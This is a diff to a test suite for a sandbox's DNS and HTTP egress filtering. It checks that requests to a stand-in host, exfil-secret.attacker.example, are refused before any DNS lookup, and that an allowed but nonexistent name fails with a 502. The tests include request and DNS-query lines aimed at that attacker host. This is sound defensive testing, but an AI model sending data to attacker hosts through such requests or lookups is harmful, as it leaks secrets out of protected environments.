@@ -492,6 +492,9 @@ def dns_connect_egress(env):
     check(res["api.example.com:8444"]["status"] == 403 and
           res["api.example.com:8444"]["refusal"] == "name_not_allowed", "port: %r" % res)
     check(res["exfil-secret.attacker.example:8443"]["status"] == 403, "denied: %r" % res)
+    # Refused by name before any lookup: the resolver never saw it (no lookup exfiltration).
+    seen = [json.loads(l)["name"] for l in open(dnslog) if l.strip()]
+    check("exfil-secret.attacker.example" not in seen, "the DNS server saw %r" % seen)
     check(res["rebind.example.com:8443"]["refusal"] == "restricted_destination",
           "rebinding: %r" % res)
     check(res["192.0.2.10:8443"]["refusal"] == "address_literal", "literal: %r" % res)
@@ -571,6 +574,7 @@ c name.json http://exfil-secret.attacker.example:8080/x
 c port.json http://pkgs.example.com:8081/x
 c put.out -X PUT --data-binary @hello.out http://pkgs.example.com:8080/put
 c literal.json http://192.0.2.10:8080/x
+c gone.json http://gone.example.com:8080/x
 python3 "$2" 192.0.2.53 exfil-secret.attacker.example > dns.out 2>&1
 [ "$1" = full ] || exit 0
 git clone -q http://pkgs.example.com:8080/files/repo.git clone > git.out 2>&1; echo $? > git.rc
@@ -610,6 +614,7 @@ def dns_http_egress(env):
                 json.dump(policy, f)
         env.chown_to_user(ws)
         r = env.gensee("run", "--sandbox", "linux", "--allow-net", "pkgs.example.com,tcp,8080",
+                       "--allow-net", "gone.example.com,tcp,8080",
                        "--json", "--", "/bin/sh", "-c", HTTP_TOOLS, tag, mode,
                        env.tool("dnsclient.py"), cwd=ws,
                        env={"GENSEE_HOME": gh}, timeout=240)
@@ -643,6 +648,14 @@ def dns_http_egress(env):
         check(rd(f + ".code") == "403" and body["error"] == code and
               body["policy_key"] == "linux.network.allow" and
               (allow is None or body["allow_with"] == allow), "%s: %r %r" % (f, rd(f + ".code"), body))
+    # The name is decided before it is resolved: the test's DNS server never
+    # saw the refused one (by DNS or through the egress); an allowed name
+    # that does not exist is a 502 and a decision in the evidence.
+    seen = [json.loads(l)["name"] for l in open(dnslog) if l.strip()]
+    check("exfil-secret.attacker.example" not in seen and "gone.example.com" in seen,
+          "the DNS server saw %r" % seen)
+    check(rd("gone.json.code") == "502" and json.loads(rd("gone.json"))["error"] ==
+          "resolve_failed", "gone: %r %r" % (rd("gone.json.code"), rd("gone.json")))
     # What reached the upstream: origin form, our Host, no credential, close.
     with open(uplog) as f:
         reqs = [e for e in (json.loads(l) for l in f if l.strip()) if e["event"] == "request"]
@@ -664,7 +677,8 @@ def dns_http_egress(env):
     check(("GET", "http://pkgs.example.com:8080/files/hello.txt", "allowed") in http and
           ("PUT", "http://pkgs.example.com:8080/put", "allowed") in http and
           ("GET", "http://exfil-secret.attacker.example:8080/x", "name_not_allowed") in http and
-          ("GET", "http://pkgs.example.com:8081/x", "name_not_allowed") in http, "evidence: %r" % http)
+          ("GET", "http://pkgs.example.com:8081/x", "name_not_allowed") in http and
+          ("GET", "http://gone.example.com:8080/x", "no_addresses") in http, "evidence: %r" % http)
     # The run's summary explains each refusal once, with what would allow it.
     why = {(x["kind"], x["what"]): x for x in out.get("refused", [])}
     h = why.get(("http", "GET http://exfil-secret.attacker.example:8080/x"), {})
